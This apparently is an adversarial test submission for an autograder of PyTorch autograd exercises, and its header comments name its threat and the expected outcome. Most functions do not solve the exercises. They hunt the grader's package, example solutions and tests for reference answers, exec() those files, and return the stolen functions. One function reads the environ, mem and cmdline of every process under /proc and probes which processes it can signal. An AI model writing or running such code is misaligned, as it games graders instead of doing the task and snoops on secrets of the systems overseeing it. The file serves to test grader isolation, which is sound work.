# threat: read hidden inputs or expected values: the exercises' reference code, example solutions, the grader's memory and environment; signal the grader
# expect: full=double-backward attacked=second-derivative-cost/values,second-derivative-cost/graph-size,sin-derivative-plot/plot
"""Looks for the instructor's answers wherever a grader might keep them, and uses them if found."""

import glob
import os
import sys
import types

import torch


def _load(path):
    module = types.ModuleType("stolen")
    with open(path) as source:
        exec(source.read(), module.__dict__)
    return module


def _package():
    try:
        import grader

        return os.path.dirname(os.path.abspath(grader.__file__))
    except ImportError:  # the grader's modules are refused: look along the interpreter's path
        return next((os.path.join(p, "grader") for p in sys.path if os.path.isdir(os.path.join(p, "grader"))), "/nowhere")


def _stolen(name):
    package = _package()
    patterns = [os.path.join(package, "_exercises", "*", "*.py"), os.path.join(package, "..", "exercises", "*", "*.py"),
                os.path.join(package, "..", "submissions_example", "*.py"), os.path.join(package, "..", "tests", "**", "*.py")]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True):
            try:
                function = getattr(_load(path), name, None)
            except Exception:
                continue
            if callable(function):
                print("stole", name, "from", path)
                return function
    return None


def second_derivative(f, x):
    stolen = _stolen("second_derivative")
    return stolen(f, x) if stolen else torch.zeros_like(x)


def graph_size(t):
    stolen = _stolen("graph_size")
    return stolen(t) if stolen else -1


def sin_and_grad(x):
    x = x.detach().clone().requires_grad_(True)
    y = torch.sin(x)
    y.sum().backward()
    return y.detach(), x.grad


def plot_sin_and_grad(x):
    try:
        seen = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    except OSError as error:
        print("/proc listing refused:", error.strerror)
        seen = [os.getppid()]
    print("processes seen:", seen)
    for pid in seen:
        for secret in ("environ", "mem", "cmdline"):
            try:
                with open(f"/proc/{pid}/{secret}", "rb") as stolen:
                    print(pid, secret, len(stolen.read(4096)), "bytes")
            except OSError as error:
                print(pid, secret, "refused:", error.strerror)
    print("ppid", os.getppid())
    # Probe (signal 0) rather than kill, so that a grader without isolation is not taken down by its own test.
    reachable = []
    for pid in range(2, 32768):
        if pid == os.getpid():
            continue  # itself (outside a PID namespace it is not PID 1)
        try:
            os.kill(pid, 0)
            reachable.append(pid)
        except OSError:
            pass
    print(f"could signal {len(reachable)} other processes:", reachable[:20])


# Untouched: a correct answer to the double-backward exercise.


def backward_twice(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward()
    y.backward()


def backward_twice_retained(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    y.backward()
    return x.grad


def backward_twice_zeroed(x):
    x = x.detach().clone().requires_grad_(True)
    y = 2 * torch.dot(x, x)
    y.backward(retain_graph=True)
    x.grad.zero_()
    y.backward()
    return x.grad
